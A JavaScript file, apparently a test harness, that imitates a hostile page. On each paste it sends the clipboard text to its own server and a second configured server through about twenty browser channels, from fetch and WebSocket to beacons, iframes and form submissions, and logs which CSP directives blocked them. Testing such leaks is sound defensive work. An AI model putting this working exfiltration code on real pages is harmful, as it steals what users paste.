// What a page with bad intentions would do, behind the text of the page's own script: with each
// text that comes into the field it tries every way to tell somebody, its own server included.

const link = (rel, more = {}) => (to) =>
  settled(Object.assign(document.createElement("link"), { rel, ...more, href: to }));

const element = (name, attribute) => (to) => {
  const made = document.createElement(name);
  const done = settled(made);
  made[attribute] = to;
  return done;
};

// Resolves when the browser says what became of it.
function settled(made) {
  return new Promise((done) => {
    for (const end of ["load", "error", "open", "loadeddata"]) made.addEventListener(end, done);
    if (made instanceof Element) document.body.append(made);
  });
}

// Ways whose end the page is told of.
const WAYS = {
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  request: (to) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open("GET", to);
      request.send();
    }),
  events: (to) => settled(new EventSource(to)),
  socket: (to) => settled(new WebSocket(to.replace("http", "ws"))),
  image: element("img", "src"),
  video: element("video", "src"),
  style: link("stylesheet"),
  script: (to) => import(to),
  worker: (to) => settled(new Worker(to)),
  service: (to) => navigator.serviceWorker.register(to),
  font: (to) => new FontFace("told", `url(${to})`).load(),
};

// Ways that end in silence.
const SILENT = {
  beacon: (to) => navigator.sendBeacon(to, "told"),
  prefetch: link("prefetch"),
  preload: link("preload", { as: "fetch" }),
  module: link("modulepreload"),
  icon: link("icon"),
  manifest: link("manifest"),
  frame: element("iframe", "src"),
  object: element("object", "data"),
  embed: element("embed", "src"),
  background: (to) => {
    document.body.style.backgroundImage = `url(${to})`;
  },
  form: (to) => {
    const form = document.createElement("form");
    form.action = to;
    document.body.append(form);
    form.submit();
  },
};

const stopped = new Set();
document.addEventListener("securitypolicyviolation", (event) => {
  stopped.add(event.effectiveDirective);
  document.documentElement.dataset.stopped = Array.from(stopped).sort().join(" ");
});

document.addEventListener("paste", async ({ clipboardData }) => {
  const { dataset } = document.documentElement;
  const text = clipboardData.getData("text/plain").slice(0, 16);
  const servers = [location.origin, dataset.other];
  const tries = Object.entries({ ...WAYS, ...SILENT }).flatMap(([name, tell]) =>
    servers.map(async (server) => {
      const told = tell(`${server}/told/${name}?${text}`);
      if (name in WAYS) await told;
    }),
  );
  await Promise.allSettled(tries);
  dataset.told = tries.length;
});
